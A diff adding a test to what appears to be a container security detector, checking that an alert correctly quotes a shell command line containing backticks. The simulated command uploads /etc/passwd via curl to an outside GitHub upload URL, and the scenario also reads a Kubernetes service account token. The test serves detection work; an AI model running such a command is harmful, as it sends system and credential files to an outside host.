@@ -73,3 +73,23 @@ describe('a parent the tables do not hold', () => {
     expect(first).not.toContain('ghp_');
   });
 });
+
+describe('a parent whose command line holds a backtick', () => {
+  it.each(['tetragon', 'falco'] as SensorSource[])('%s: a fence longer than its backticks', (source) => {
+    const s = new Scenario({ source });
+    const c = s.container({ name: 'web' });
+    const sh = s.exec(c, '/bin/sh', "-c 'curl -T /etc/passwd https://uploads.github.com/x?name=`hostname`'", {
+      parent: s.init(c, '/usr/bin/tini', '-- app'),
+    });
+    const curl = s.exec(c, '/usr/bin/curl', '-T /etc/passwd https://uploads.github.com/x?name=web-1', {
+      parent: sh,
+    });
+    s.read(curl, '/var/run/secrets/kubernetes.io/serviceaccount/token', 900);
+    s.connect(curl, '140.82.113.14', 443).send(curl, '140.82.113.14', 443, 2 * MiB);
+    const first = run(s.events).alerts[0]?.response[0] ?? '';
+    // A single backtick fence ended the span at `hostname`'s first backtick.
+    expect(first).toContain(
+      "started by ``/bin/sh -c 'curl -T /etc/passwd https://uploads.github.com/x?name=`hostname`'`` (pid",
+    );
+  });
+});
